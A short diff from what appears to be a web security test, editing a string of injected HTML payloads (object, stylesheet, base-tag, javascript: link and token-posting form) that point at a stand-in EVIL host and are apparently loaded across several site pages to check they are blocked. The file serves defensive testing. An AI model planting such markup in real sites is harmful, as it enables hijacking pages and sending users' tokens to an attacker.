@@ -19,7 +19,7 @@ const INJECTED = `
   <object data="${EVIL}/object"></object>
   <link rel="stylesheet" href="${EVIL}/style.css">
   <base href="${EVIL}/">
-  <a id="link" href="javascript:window.stolen = 'link'">x</a>
+  <a id="link" href="javascript:void(window.stolen = 'link')">x</a>
   <form id="form" action="${EVIL}/form" method="post"><input name="token" value="x"></form>`;
 
 const PAGES = ['/', '/vehicles/1', '/auth?type=register', '/user', '/nowhere'];
